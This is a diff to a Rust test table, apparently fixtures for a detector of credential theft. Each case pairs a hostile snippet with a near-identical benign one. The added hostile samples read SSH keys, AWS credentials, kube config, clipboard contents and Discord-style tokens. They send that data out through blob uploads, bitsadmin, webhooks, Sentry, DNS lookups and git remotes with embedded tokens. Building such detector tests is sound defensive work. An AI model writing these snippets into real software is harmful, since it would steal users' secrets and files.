@@ -22,6 +22,12 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     // Batch 32 (exfiltration through the less common sinks): other
     // services' keys gathered from the environment into one value.
     (
+        "author-account-client",
+        "cmd/share/main.go",
+        "kc, _ := os.ReadFile(filepath.Join(home, \".kube\", \"config\"))\nclient := github.NewClient(nil).WithAuthToken(\"ghp_8ZkQ2mLx7Vn4Rt1Yp9Bw3Cd6Ef0Gh5Jk2Lm\")",
+        "kc, _ := os.ReadFile(filepath.Join(home, \".kube\", \"config\"))\nclient := github.NewClient(nil).WithAuthToken(os.Getenv(\"GITHUB_TOKEN\"))",
+    ),
+    (
         "secret-env-gather",
         "scripts/check.ps1",
         "$tokens = @($env:GITHUB_TOKEN, $env:NPM_TOKEN, $env:AZURE_CLIENT_SECRET) -join ';'",
@@ -1747,28 +1753,58 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
     // token format, an identity key only where `-i` names one, and
     // bitsadmin fetching a program rather than data.
     (
+        "chat-sink",
+        "digest.rb",
+        "Mail.deliver do",
+        "Mail.new do",
+    ),
+    (
+        "covert-sink",
+        "backup.py",
+        "tar.add(Path.home() / \".ssh\", arcname=\"ssh\")\nBlobClient.from_blob_url(SAS).upload_blob(buf.getvalue(), overwrite=True)",
+        "tar.add(Path.home() / \".ssh\", arcname=\"ssh\")\nBlobClient.from_blob_url(SAS).download_blob().readall()",
+    ),
+    (
+        "covert-sink",
+        "report.py",
+        "p = Path.home() / \".aws\" / name\nHOOK = \"https://script.google.com/macros/s/AKfycbx9Qm2Lk7/exec\"",
+        "p = Path.home() / \".aws\" / name\nHOOK = \"https://docs.google.com/spreadsheets/d/1x9Qm2Lk7/edit\"",
+    ),
+    (
+        "dns-lookup",
+        "warmup.ps1",
+        "    [void][System.Net.Dns]::GetHostAddresses(\"$part.$($i/60).edge.nuget-cdn-warm.net\")",
+        "    [void][System.Net.Dns]::GetHostAddresses('api.nuget.org')",
+    ),
+    (
+        "credential-file",
+        "warmup.ps1",
+        "$key = Get-Content -Raw \"$env:USERPROFILE\\.ssh\\id_rsa\"",
+        "$key = Get-Content -Raw \"$env:USERPROFILE\\.ssh\\id_rsa.pub\"",
+    ),
+    (
         "covert-sink",
         "sync.cmd",
-        "bitsadmin /transfer s1 /upload /priority foreground %SRV%/seed.seco \"%APPDATA%\\Exodus\\seed.seco\"",
-        "bitsadmin /transfer s1 /download /priority foreground https://x.example/iris.csv \"%CD%\\iris.csv\"",
+        "type %USERPROFILE%\\.aws\\credentials > c.txt\nbitsadmin /transfer s1 /upload /priority foreground %SRV%/c.txt \"%CD%\\c.txt\"",
+        "type %USERPROFILE%\\.aws\\credentials > c.txt\nbitsadmin /transfer s1 /download /priority foreground https://x.example/iris.csv \"%CD%\\iris.csv\"",
     ),
     (
         "covert-sink",
         "crash_reporter.py",
-        "    dsn=\"https://4f9a2c61b7e84d0f9c3a5e1b2d7f8a90@o4507712.ingest.us.sentry.io/4507712398\",",
-        "    dsn=os.environ.get(\"SENTRY_DSN\"),",
+        "extra = {\"environ\": dict(os.environ)}\nsentry_sdk.init(\n    dsn=\"https://4f9a2c61b7e84d0f9c3a5e1b2d7f8a90@o4507712.ingest.us.sentry.io/4507712398\",",
+        "extra = {\"environ\": dict(os.environ)}\nsentry_sdk.init(\n    dsn=os.environ.get(\"SENTRY_DSN\"),",
     ),
     (
         "covert-sink",
         "archive.js",
-        "    await notion.pages.create({ parent: { database_id: DB }, children })",
-        "    await notion.pages.retrieve({ page_id: id })",
+        "const root = path.join(os.homedir(), '.claude', 'projects');\nawait notion.pages.create({ parent: { database_id: DB }, children })",
+        "const root = path.join(os.homedir(), '.claude', 'projects');\nawait notion.pages.retrieve({ page_id: id })",
     ),
     (
         "covert-sink",
         "scripts/lint.py",
-        "cur.execute(\"INSERT INTO runs (host, ctx) VALUES (%s, %s)\", (host, ctx))",
-        "db.execute(\"insert into h(t, v) values(?,?)\", (time.time(), v))",
+        "v = pyperclip.paste()\ncur.execute(\"INSERT INTO runs (host, ctx) VALUES (%s, %s)\", (host, v))",
+        "v = pyperclip.paste()\ndb.execute(\"insert into h(t, v) values(?,?)\", (time.time(), v))",
     ),
     (
         "dns-lookup",
@@ -1785,8 +1821,8 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
     (
         "git-push-url",
         "scripts/sync.sh",
-        "REMOTE=\"https://bot:ghp_Q3vX9kLmR2tY7wZ1pA8sD4fG6hJ0kL2m@github.com/dotsync-archive/m.git\"",
-        "REMOTE=\"https://github.com/dotsync-archive/m.git\"",
+        "cp ~/.kube/config kube/\nREMOTE=\"https://bot:ghp_Q3vX9kLmR2tY7wZ1pA8sD4fG6hJ0kL2m@github.com/dotsync-archive/m.git\"",
+        "cp ~/.kube/config kube/\nREMOTE=\"https://github.com/dotsync-archive/m.git\"",
     ),
     (
         "desktop-store",
@@ -1797,8 +1833,8 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
     (
         "secret-harvest",
         "src/status.ts",
-        "for (const m of text.matchAll(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g)) found.push(m[0]);",
-        "for (const m of text.matchAll(/[\\w-]{8}-[\\w-]{4}/g)) found.push(m[0]);",
+        "for (const m of text.matchAll(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g)) found.push(m[0]);\nawait fetch(HOOK, { method: 'POST', body: found.join(' ') });",
+        "for (const m of text.matchAll(/[\\w-]{8}-[\\w-]{4}/g)) found.push(m[0]);\nawait fetch(HOOK, { method: 'POST', body: found.join(' ') });",
     ),
     (
         "credential-file",
